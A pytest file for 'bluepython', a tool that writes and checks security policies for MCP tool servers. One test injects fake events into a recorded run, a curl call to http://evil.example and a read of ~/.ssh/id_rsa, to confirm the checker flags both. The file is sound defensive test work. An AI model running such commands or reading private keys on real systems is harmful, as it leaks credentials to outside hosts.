# SPDX-License-Identifier: Apache-2.0
"""`bluepython policy suggest` and `bluepython check`: a policy written from a real run passes
on that run's spool, and catches what was added to it."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

from conftest import FIXTURES, Sandbox

_CALL_TOOLS = FIXTURES / "call_tools.py"

# A FastMCP stdio server whose tools open files and spawn `true`.
_SERVER = """\
import subprocess
import sys

from mcp.server.fastmcp import FastMCP

server = FastMCP("policy-tools")
open("start.txt", "w").close()


@server.tool()
async def touch(path: str) -> str:
    with open(path, "w") as f:
        f.write("x")
    return "ok"


@server.tool()
def spawn() -> str:
    subprocess.run(["true"], check=True)
    return "ok"


server.run("stdio")
"""


def recorded_run(sandbox: Sandbox, mcp1: Any) -> Path:
    """The server under bluepython, driven by the SDK's client; returns the spool."""
    server = sandbox.write("server.py", _SERVER)
    (sandbox.cwd / "out").mkdir()
    calls = json.dumps([["touch", {"path": "out/a.txt"}], ["touch", {"path": "out/b.txt"}], ["spawn", {}]])
    res = sandbox.run([mcp1.python, str(_CALL_TOOLS), mcp1.bluepython, json.dumps([str(server)]), calls])
    assert res.returncode == 0, res.stderr.decode()
    return sandbox.spool


def suggest(sandbox: Sandbox, spool: Path) -> dict[str, Any]:
    res = sandbox.run([sandbox.bluepython, "policy", "suggest", str(spool)])
    assert res.returncode == 0, res.stderr.decode()
    return json.loads(res.stdout)


def check(sandbox: Sandbox, policy: Path, spool: Path, *extra: str) -> Any:
    return sandbox.run([sandbox.bluepython, "check", "--policy", str(policy), *extra, str(spool)])


def test_suggest_then_check_is_clean_and_an_injected_change_is_caught(sandbox: Sandbox, mcp1: Any) -> None:
    spool = recorded_run(sandbox, mcp1)
    doc = suggest(sandbox, spool)
    rules = {r["id"]: r for r in doc["rules"]}
    assert rules["tools"]["tools"]["allow"]["call"] == ["spawn", "touch"]
    touch = rules["files:tool:policy-tools/touch"]
    assert touch["scope"] == {"server": "policy-tools", "tool": "touch"}
    assert touch["files"]["allow"]["write"] == [f"{sandbox.cwd / 'out'}/**"]
    assert "2 write" in touch["why"] and "2 calls of tool touch" in touch["why"]
    assert rules["process:tool:policy-tools/spawn"]["process"]["allow"]["spawn"] == ["true"]
    assert f"{sandbox.cwd}/**" in rules["files:outside-calls"]["files"]["allow"]["write"]
    assert set(doc["tool_pins"]["pins"]) == {"spawn", "touch"}
    assert doc["imports"]["lock"]["mcp"] != "builtin" and doc["imports"]["lock"]["sys"] == "builtin"
    # The same spools, the same policy.
    assert suggest(sandbox, spool) == doc

    policy = sandbox.root / "policy.json"
    policy.write_text(json.dumps(doc))
    res = check(sandbox, policy, spool)
    assert res.returncode == 0, res.stdout.decode() + res.stderr.decode()
    assert res.stdout.decode().startswith("clean: no violation in ")

    # A copy of the spool with a spawn of curl in the touch call, and a read of ~/.ssh.
    changed = sandbox.root / "changed"
    shutil.copytree(spool, changed)
    server_file = next(
        f for f in sorted(changed.glob("python-*.ndjson")) if '"python_mcp_server_init"' in f.read_text()
    )
    events = [json.loads(line) for line in server_file.read_text().splitlines()]
    opened = next(
        e
        for e in events
        if e["event"]["meta"]["name"] == "python_file_open"
        and e["event"]["context"].get("mcp", {}).get("target") == "touch"
    )
    spawn = json.loads(json.dumps(opened))
    spawn["event"]["meta"]["name"] = "python_process_spawn"
    for key in ("path", "mode", "flags", "access", "create", "append", "truncate"):
        spawn["event"].pop(key, None)
    spawn["event"].update(
        via="subprocess.Popen",
        executable="curl",
        argv=["curl", "http://evil.example"],
        cwd=None,
        env_keys=None,
    )
    secret = json.loads(json.dumps(opened))
    secret["event"].update(path=str(sandbox.home / ".ssh" / "id_rsa"), access="read", create=False)
    with server_file.open("a") as f:
        f.write(json.dumps(spawn) + "\n" + json.dumps(secret) + "\n")
    res = check(sandbox, policy, changed)
    assert res.returncode == 1, res.stderr.decode()
    lines = res.stdout.decode().splitlines()
    assert any(
        "[process:default] spawn not allowed" in line and "curl http://evil.example in tool touch" in line
        for line in lines
    ), lines
    assert any(
        "[files:tool:policy-tools/touch] read not allowed" in line and ".ssh/id_rsa" in line for line in lines
    ), lines
    assert lines[-1].startswith("2 violations of 2 rules in ")

    res = check(sandbox, policy, changed, "--json")
    assert res.returncode == 1
    report = json.loads(res.stdout)
    assert report["clean"] is False and report["events_checked"] > 0
    assert [v["event"] for v in report["violations"]] == ["python_process_spawn", "python_file_open"]
    assert report["violations"][0]["call"]["tool"] == "touch"
    assert report["violations"][0]["subject"]["executable"] == "curl"


def test_lock_and_bad_input(sandbox: Sandbox) -> None:
    sandbox.write("mymod.py", "X = 1\n")
    assert sandbox.bp("-c", "import mymod").returncode == 0
    base = sandbox.root / "base.json"
    base.write_text(
        json.dumps(
            {"version": 1, "mode": "observe", "rules": [{"id": "r", "process": {"deny": {"spawn": ["sh"]}}}]}
        )
    )
    res = sandbox.run([sandbox.bluepython, "policy", "lock", "--into", str(base), str(sandbox.spool)])
    assert res.returncode == 0, res.stderr.decode()
    doc = json.loads(res.stdout)
    assert doc["mode"] == "observe" and doc["rules"][0]["id"] == "r"
    assert len(doc["imports"]["lock"]["mymod"]) == 64
    locked = sandbox.root / "locked.json"
    locked.write_text(res.stdout.decode())
    assert check(sandbox, locked, sandbox.spool).returncode == 0
    # The module changes: the next run's import is not what was locked.
    sandbox.write("mymod.py", "X = 2\n")
    assert sandbox.bp("-c", "import mymod").returncode == 0
    res = check(sandbox, locked, sandbox.spool)
    assert res.returncode == 1
    assert "module mymod changed on disk" in res.stdout.decode()

    bad = sandbox.root / "bad.json"
    bad.write_text('{"version": 1, "rules": [{"files": {"allow": {"read": ["relative/**"]}}}]}')
    res = check(sandbox, bad, sandbox.spool)
    assert res.returncode == 2
    err = res.stderr.decode().strip()
    assert len(err.splitlines()) == 1 and "must be absolute" in err
    res = check(sandbox, locked, sandbox.root / "no-such-spool")
    assert res.returncode == 2
    assert res.stderr.decode().startswith("bluepython check: no file or directory")
